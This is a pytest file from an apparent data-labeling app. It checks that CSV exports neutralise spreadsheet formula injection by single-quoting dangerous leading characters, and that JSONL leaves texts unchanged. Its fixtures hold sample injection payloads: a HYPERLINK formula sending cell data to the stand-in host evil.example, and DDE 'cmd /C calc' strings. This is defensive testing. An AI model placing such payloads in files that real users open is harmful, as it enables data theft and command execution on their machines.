"""CSV exports never hand a spreadsheet a formula: a text starting with =, +, -, @, tab or
carriage return is written behind a single quote, on PostgreSQL's path (Polars) and on the
Python writers alike. JSONL and Parquet keep the texts as they are."""

import csv
import io
import json

import pytest

from labeling.formats.exports import JUDGMENT_COLUMNS, ExportOptions
from labeling.models import Choice, Prompt
from labeling.services.exporting import (
    csv_lines,
    export_rows,
    export_spooled,
    export_write_file,
)
from tests.conftest import client_for
from tests.factories import MembershipFactory, make_pairs
from tests.labeling.datafiles import add_judgment, import_bytes, jsonl

pytestmark = pytest.mark.django_db
committed = pytest.mark.django_db(transaction=True)

RATIONALES = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "fine = ok, -1 +1 @x": "fine = ok, -1 +1 @x",
    "": "",
}


def _judged_with_rationales(project) -> None:
    user = MembershipFactory(project=project).user
    pairs = make_pairs(project, len(RATIONALES))
    for pair, rationale in zip(pairs, RATIONALES, strict=True):
        add_judgment(pair, user, Choice.A, rationale=rationale)
    # An imported prompt id is a text from outside too.
    Prompt.objects.filter(pk=pairs[0].prompt_id).update(external_id="=1+2")


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@committed
def test_it_quotes_formulas_in_raw_judgments_on_every_path(project):
    _judged_with_rationales(project)
    options = ExportOptions(kind="judgments", file_format="csv")
    buffer = io.BytesIO()
    export_write_file(project=project, options=options, fileobj=buffer)
    written = _csv_rows(buffer.getvalue().decode())  # COPY and Polars on PostgreSQL
    python_rows = export_rows(project=project, options=options)
    by_python = _csv_rows("".join(csv_lines(python_rows, list(JUDGMENT_COLUMNS))))

    for rows in (written, by_python):
        assert [row["rationale"] for row in rows] == list(RATIONALES.values())
        assert rows[0]["prompt_id"] == "'=1+2"
        assert {row["choice"] for row in rows} == {"a"}  # other cells untouched
    assert written == by_python


@committed
def test_it_keeps_texts_as_they_are_in_jsonl(project):
    _judged_with_rationales(project)
    options = ExportOptions(kind="judgments", file_format="jsonl")
    buffer = io.BytesIO()
    export_write_file(project=project, options=options, fileobj=buffer)
    rows = [json.loads(line) for line in buffer.getvalue().decode().splitlines()]
    assert [row["rationale"] for row in rows] == list(RATIONALES)


def test_it_quotes_formulas_in_preference_rows(project, manager):
    rows = [
        {"prompt": "=cmd|'/C calc'!A0", "chosen": "@SUM(1)", "rejected": "-1"},
        {"prompt": "2 + 2?", "chosen": "4", "rejected": "+5"},
    ]
    import_bytes(project, jsonl(rows), format="trl")
    with export_spooled(project=project, options=ExportOptions(file_format="csv")) as spool:
        written = _csv_rows(spool.read().decode())
    assert written == [
        {"prompt": "'=cmd|'/C calc'!A0", "chosen": "'@SUM(1)", "rejected": "'-1"},
        {"prompt": "2 + 2?", "chosen": "4", "rejected": "'+5"},
    ]
    # The manager's download streams the same writer.
    response = client_for(manager).get(f"/p/{project.slug}/export/?kind=trl&file_format=csv")
    assert _csv_rows(b"".join(response.streaming_content).decode()) == written
